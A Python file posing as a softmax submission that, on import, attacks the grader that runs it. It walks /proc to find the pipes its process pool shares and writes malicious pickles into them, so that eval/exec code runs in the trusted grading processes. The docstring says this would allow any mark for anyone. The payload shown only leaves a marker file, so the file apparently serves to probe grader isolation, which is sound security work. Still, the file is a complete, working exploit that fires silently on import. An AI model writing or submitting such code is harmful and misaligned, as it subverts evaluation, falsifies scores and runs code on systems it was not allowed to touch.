"""Runs its own code in the grader's trusted processes, through the pickles they unpickle.

`grade_all` grades in a `ProcessPoolExecutor`: jobs and results travel as pickles through pipes
that the batch process shares with every grading process. Any process of the same user can open
such a pipe through `/proc/<pid>/fd/<n>` and write into it, and unpickling runs code. This finds
the two pipes all grading processes share with the batch process (the job and result queues) and
writes one message into each. Gain if it worked: code running where submissions are scored and
reports written (any mark for anyone). This payload only leaves an `agx-pwned-<pid>` file in the
reports folder, then hands each reader an item it ignores, so that the batch goes on.
"""

import contextlib
import os
import pickle
import struct
from pathlib import Path

PAYLOAD = """
import concurrent.futures.process as p, multiprocessing, os, pathlib
pathlib.Path(REPORTS, f"agx-pwned-{os.getpid()}").write_text("arbitrary code ran here")
item = p._CallItem(-1, int, (), {}) if multiprocessing.parent_process() else p._ResultItem(-1)
"""


class Exploit:
    def __init__(self, reports):
        self.reports = reports

    def __reduce__(self):
        return eval, (
            "exec(code, g) or g['item']",
            {"code": PAYLOAD, "g": {"REPORTS": self.reports}},
        )


def info(pid, name):
    try:
        return Path(f"/proc/{pid}/{name}").read_bytes().decode(errors="replace")
    except OSError:
        return ""


def pipes(pid):
    links = [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]
    return {os.readlink(link): link for link in links if os.readlink(link).startswith("pipe:")}


def attack():
    pid = os.getppid()
    while "--reports" not in info(pid, "cmdline"):  # up to the grading command
        pid = int(info(pid, "stat").rsplit(")", 1)[1].split()[1])
        if pid <= 1:
            return
    args = info(pid, "cmdline").split("\0")
    reports = args[args.index("--reports") + 1]
    stats = {p: info(p, "stat").rsplit(")", 1)[-1].split() for p in os.listdir("/proc")}
    workers = [
        p for p, s in stats.items() if s[1:2] == [str(pid)] and "spawn_main" in info(p, "cmdline")
    ]
    shared = pipes(pid)
    for worker in workers:
        shared = {pipe: link for pipe, link in shared.items() if pipe in pipes(worker)}
    if len(workers) < 2:
        return  # one grading process: its sentinel pipes would match too
    data = pickle.dumps(Exploit(os.path.join(os.readlink(f"/proc/{pid}/cwd"), reports)))
    for link in shared.values():
        fd = os.open(link, os.O_WRONLY | os.O_NONBLOCK)
        os.write(fd, struct.pack("!i", len(data)) + data)
        os.close(fd)
        print("BREACH: wrote a pickle into", link, flush=True)


with contextlib.suppress(OSError, ValueError):
    attack()


def softmax(scores, dim=-1):
    raise RuntimeError("all my points would come from the code I ran in the grader")
